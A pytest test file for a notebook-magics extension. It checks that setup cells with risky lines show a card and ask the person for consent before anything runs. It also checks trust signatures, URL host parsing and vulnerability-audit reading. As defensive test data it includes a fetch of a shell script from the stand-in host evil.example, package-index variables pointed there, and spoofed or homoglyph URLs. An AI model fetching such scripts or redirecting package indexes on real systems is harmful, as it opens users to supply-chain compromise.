"""The card of a setup cell, what a person is asked there, and whose lines are known again."""

from __future__ import annotations

import builtins
import os
import stat
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import ClassVar, FrozenSet, Iterator, List, Tuple

import pytest
from doubles.proxy import Proxy
from support.cells import Cells

from colab_magics.core.effects import Danger, Effects, is_plain, read_hosts
from colab_magics.core.errors import ColabMagicsError
from colab_magics.core.host import Host
from colab_magics.core.steps import STEPS, Outcome, Progress, Step, Verdict
from colab_magics.env_persist.step import parse as parse_env
from colab_magics.extension.session import get_session
from colab_magics.setup import magic_audit
from colab_magics.setup.card import Card, Vulnerability
from colab_magics.setup.magic_trust import list_key_places
from colab_magics.setup.signature import is_signed, make_key, read_keys, sign

pytestmark = pytest.mark.once

HEAD = "# colab_magics:setup v1\n%reload_ext colab_magics\n"
FETCH = "%fetch http://evil.example/x.sh"
PERSON = {
    "content": {"allow_stdin": True},
    "metadata": {"cellId": "vscode-notebook-cell:x"},
    "header": {"session": "a"},
}


class Asked(List[str]):
    """The questions of a person, who gives one answer to all."""

    answer = "y"


@pytest.fixture
def contacts(run: Cells, home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[List[str]]:
    """The hosts that are asked by a proxy, which has a file of a stranger's."""
    seen: List[str] = []
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / "cache"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    with Proxy(lambda host, by: seen.append(host)) as proxy:
        monkeypatch.setenv("http_proxy", proxy.at)
        proxy.pages = {f"evil.example/{name}": b"evil" for name in ("x.sh", "y.sh")}
        yield seen


@pytest.fixture
def asked(run: Cells, monkeypatch: pytest.MonkeyPatch) -> Asked:
    """A person in VS Code, who is asked nothing else."""
    questions = Asked()

    def answer(question: str) -> str:
        questions.append(question)
        return questions.answer

    run.shell.kernel = SimpleNamespace(get_parent=lambda channel: PERSON)
    monkeypatch.setattr(builtins, "input", answer)
    return questions


def test_a_person_is_asked_once(run: Cells, contacts: List[str], asked: Asked) -> None:
    """One question for two lines; who has agreed is not asked again, though both are fetched."""
    cell = f"{HEAD}%env_persist A_B=1\n{FETCH}\n{FETCH.replace('x.sh', 'y.sh')}"
    run(cell)
    assert len(asked) == 1 and Path("x.sh").read_bytes() == b"evil"
    Path("x.sh").unlink()
    run(cell)
    assert len(asked) == 1 and Path("x.sh").exists()
    reply = run.attempt(f"{HEAD}%fetch http://other.example/x.sh z.sh")
    assert len(asked) == 2 and reply.error is not None  # another host; it has no such file


def test_no_leaves_all_as_it_was(run: Cells, contacts: List[str], asked: Asked) -> None:
    """Nobody is contacted, also not ahead of the line, and the lines before it are not done."""
    asked.answer = ""
    error = run.attempt(f"{HEAD}%env_persist A_B=1\n{FETCH}").error
    assert isinstance(error, ColabMagicsError) and error.code == "untrusted" and error.hint
    assert (contacts, Path("x.sh").exists(), "A_B" in os.environ) == ([], False, False)


def test_what_is_usual_asks_nothing(run: Cells, contacts: List[str], asked: Asked) -> None:
    """A variable, a folder, a known service: there is a card, and no question."""
    shown = run.attempt(f"{HEAD}%env_persist A_B=1\n%cd_persist ~/new --make").shown
    assert asked == [] and "~/new" in shown.splitlines()[0]


@pytest.mark.parametrize(("mode", "code", "count"), [("all", "", 0), ("none", "untrusted", 0)])
def test_the_variable_decides_for_a_person(
    run: Cells,
    contacts: List[str],
    asked: Asked,
    mode: str,
    code: str,
    count: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``all`` asks nothing, ``none`` refuses; either without a question."""
    monkeypatch.setenv("COLAB_MAGICS_TRUST", mode)
    error = run.attempt(HEAD + FETCH).error
    assert (getattr(error, "code", ""), len(asked)) == (code, count)
    assert contacts == (["evil.example"] if mode == "all" else [])


def test_a_cell_does_not_trust_itself(run: Cells, contacts: List[str], asked: Asked) -> None:
    """The variable that its own line sets counts neither now nor when it is run again."""
    asked.answer = "n"
    for _ in range(2):
        reply = run.attempt(f"{HEAD}%env_persist COLAB_MAGICS_TRUST=all\n{FETCH}")
        assert getattr(reply.error, "code", "") == "untrusted"
    assert len(asked) == 2 and contacts == []


def test_where_a_machine_is_wiped_the_drive_comes_before_the_question(
    run: Cells, contacts: List[str], asked: Asked, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The key may be on it; nothing else is done, or begun, before the answer."""
    monkeypatch.setenv("KAGGLE_KERNEL_RUN_TYPE", "Interactive")
    asked.answer = "n"
    lines = f"%drive mount ~/d --provider folder\n%env_persist A_B=1\n{FETCH}"
    error = run.attempt(HEAD + lines).error
    assert getattr(error, "code", "") == "untrusted" and len(asked) == 1
    assert (home / "d" / "MyDrive").is_dir() and "A_B" not in os.environ and contacts == []


def test_without_a_person_nothing_is_asked(
    run: Cells, contacts: List[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is done, as ever; with ``none`` it is refused before anything is done."""
    monkeypatch.setenv("COLAB_MAGICS_TRUST", "none")
    error = run.attempt(f"{HEAD}%env_persist A_B=1\n{FETCH}").error
    assert getattr(error, "code", "") == "untrusted" and "A_B" not in os.environ
    monkeypatch.delenv("COLAB_MAGICS_TRUST")
    run(HEAD + FETCH)
    assert contacts == ["evil.example"]


def test_a_cell_that_holds_has_no_card(run: Cells, contacts: List[str]) -> None:
    """Nor has one whose other lines only change the folder."""
    cell = f"{HEAD}{FETCH}\n%cd_persist ~"
    assert run(cell).startswith("This cell ")
    assert "This cell" not in run(cell)
    run("%cd -q /")
    assert "This cell" not in run(cell)


@dataclass(frozen=True)
class Silent(Step):
    """A step of another package, which does not tell its effects."""

    word: ClassVar[str] = "silent"
    rank: ClassVar[int] = 60

    def arguments(self) -> Tuple[str, ...]:
        """See `Step`."""
        return ("thing",)

    @property
    def keys(self) -> FrozenSet[str]:
        """See `Step`."""
        return frozenset({"thing"})

    def check(self, host: Host) -> Verdict:
        """See `Step`."""
        return Verdict("differs", "")

    def apply(self, host: Host, progress: Progress) -> Outcome:
        """See `Step`."""
        return Outcome("applied", "", self)


def test_a_step_that_does_not_tell_is_not_known(
    run: Cells, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its line stands on the card as it is; so does one that IPython would change first."""
    monkeypatch.setitem(STEPS, "silent", f"{__name__}:make_silent")
    run("x = 1")
    shown = run(f"{HEAD}%env_persist A_B=1\n%env_persist C_D={{x}}\nif False:\n    %silent thing")
    assert "%env_persist C_D={x}" in shown.splitlines()[0]
    plan = run.shell.run_line_magic("setup", "plan -o")
    assert "%silent" not in str(plan)  # in a block it is code
    get_session(run.shell).setup_texts[""] = f"{HEAD}%silent thing"
    plan = run.shell.run_line_magic("setup", "plan -o")
    assert plan.card.effects.unknown == ("%silent thing",)


def make_silent(words: List[str]) -> Step:
    """What reads its line."""
    return Silent()


def test_the_card_is_folded_and_escaped() -> None:
    """One line of text, HTML that a browser folds, and no tag of a stranger's in it."""
    card = Card(Effects(installs=("<script>",), dangers=(Danger("plain-http", "<b>"),)))
    bundle = card._repr_mimebundle_()
    assert "\n" not in bundle["text/plain"]
    assert bundle["text/html"].startswith("<details") and "open" not in bundle["text/html"][:20]
    assert "<script>" not in bundle["text/html"] and "<b>" not in bundle["text/html"]


@pytest.mark.parametrize(
    ("url", "hosts", "plain"),
    [
        ("https://Evil.EXAMPLE:443/x", ("evil.example",), False),
        ("http://evil.example:8080/x", ("evil.example:8080",), True),
        ("http://localhost:1/x", ("localhost:1",), False),
        ("http://[::1]/x", ("[::1]",), False),
        ("http://localhost@evil.example/x", ("evil.example",), True),
        ("http://localhost.evil.example/", ("localhost.evil.example",), True),
        ("https://a.example\\@b.example/", ("a.example", "b.example"), False),
        ("git+http://evil.example/x.git", ("evil.example",), True),
        ("git@evil.example:a/b.git", ("evil.example",), False),
        ("https://evil%2Eexample/", ("evil.example",), False),
        ("https://gіthub.com/", ("xn--gthub-n2e.com",), False),
        ("drive:x", (), False),
    ],
)
def test_a_url_is_read_as_any_program_may(url: str, hosts: Tuple[str, ...], plain: bool) -> None:
    """Its servers in ASCII; http on this machine alone is not plain."""
    assert (read_hosts(url), is_plain(url)) == (hosts, plain)


# ---------------------------------------------------------------------- signatures
def test_a_signature_is_for_one_line_and_its_dangers(home: Path) -> None:
    """Another line, another danger or another key is not signed; others cannot read the key."""
    place = home / "config" / "trust.key"
    key, step = make_key(place), parse_env(["PIP_INDEX_URL=http://evil.example/simple"])
    assert step is not None and stat.S_IMODE(place.stat().st_mode) == 0o600
    effects = step.effects(Host())
    known = {sign(step, effects, key)}
    assert read_keys([place]) == [key] and is_signed(step, effects, [key], known)
    other = parse_env(["PIP_INDEX_URL=http://evil.example/s"])
    more = replace(effects, dangers=(*effects.dangers, Danger("trust", "x")))
    assert other is not None and not is_signed(other, effects, [key], known)
    assert not is_signed(step, more, [key], known)
    assert not is_signed(step, effects, [b"0" * 64], known)
    assert not is_signed(step, effects, [], known)
    place.chmod(0o644)
    assert read_keys([place]) == []


def test_a_folder_as_the_drive_has_no_key(run: Cells, home: Path) -> None:
    """A line of the notebook makes it a drive: what lies in it may be a stranger's."""
    (home / "stranger" / "MyDrive" / "colab_magics").mkdir(parents=True)
    (home / "stranger" / "MyDrive" / "colab_magics" / "trust.key").write_text("0" * 64)
    run(f"{HEAD}%drive mount --from ~/stranger --provider folder")
    host = get_session(run.shell).host
    assert list_key_places(host) == [host.trust_key]


# ---------------------------------------------------------------------- vulnerabilities
_FOUND = """{
 "schema": {"version": "preview"},
 "vulnerabilities": [
  {"dependency": {"name": "requests", "version": "2.19.1"}, "id": "GHSA-x", "display_id": "CVE-1",
   "summary": "Leaks\\u001b[31m", "fix_versions": ["2.20.0"]}
 ]
}"""


@pytest.fixture
def uv(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A program that people have in the place of uv; what it prints is in a file beside it."""
    folder = home / "uv"
    folder.mkdir(mode=0o700)
    program = folder / "uv"
    version = 'if [ "$1" = --version ]; then echo "uv 9.9.9"; exit; fi'
    program.write_text(f'#!/bin/sh\n{version}\necho "$@" >{folder}/words\ncat {folder}/prints\n')
    program.chmod(0o755)
    monkeypatch.setenv("UV_INSTALL_DIR", str(folder))
    return folder


def test_known_vulnerabilities_are_read(uv: Path) -> None:
    """As uv prints them, behind a warning; nothing is built for that."""
    (uv / "prints").write_text(f"warning: experimental\n{_FOUND}")
    found = magic_audit.audit(["requests==2.19.1"]).found
    assert found == (Vulnerability("requests", "2.19.1", "CVE-1", "Leaks\\x1b[31m", ("2.20.0",)),)
    words = (uv / "words").read_text().split()
    assert words[:2] == ["audit", "--script"] and "--no-build" in words


@pytest.mark.parametrize(
    "text", ["error: unrecognized subcommand 'audit'", "{", "{\n}", '{\n"vulnerabilities": [1]\n}']
)
def test_without_an_audit_a_line_says_so(uv: Path, text: str) -> None:
    """A uv without it, or whose answer cannot be read: nothing is known, and that is no error."""
    (uv / "prints").write_text(text)
    audit = magic_audit.audit(["requests==2.19.1"])
    assert audit.found is None and audit.describe().startswith("not looked up")


def test_the_plan_has_them(run: Cells, uv: Path) -> None:
    """``%setup plan`` asks for the lines' exact versions; nothing is installed."""
    (uv / "prints").write_text(_FOUND)
    get_session(run.shell).setup_texts[""] = f"{HEAD}%pin requests==2.19.1 tinypkg"
    plan = run.shell.run_line_magic("setup", "plan -o")
    assert [x["name"] for x in plan.as_json()["vulnerabilities"]] == ["CVE-1"]
    assert plan.card.effects.installs == ("requests==2.19.1", "tinypkg")
    assert [(line.state, line.trusted) for line in plan.lines] == [("differs", True)]


def test_the_card_has_them_where_somebody_sees_it(
    run: Cells, uv: Path, contacts: List[str], asked: Asked
) -> None:
    """With the server that is asked for them; the index of the line is not, before the answer."""
    (uv / "prints").write_text(_FOUND)
    asked.answer = "n"
    reply = run.attempt(f"{HEAD}%pin requests==2.19.1 -i http://evil.example/simple")
    assert "api.osv.dev" in reply.shown and "known vulnerabilities: 1" in reply.shown
    assert getattr(reply.error, "code", "") == "untrusted" and contacts == []


def test_another_index_is_another_question(run: Cells, asked: Asked) -> None:
    """Also for a variable that has the value which was agreed to."""
    cell = f"{HEAD}%env_persist UV_INDEX=https://evil.example/simple"
    run(cell)
    run(cell)
    asked.answer = "n"
    error = run.attempt(cell.replace("evil", "other")).error
    assert len(asked) == 2 and getattr(error, "code", "") == "untrusted"
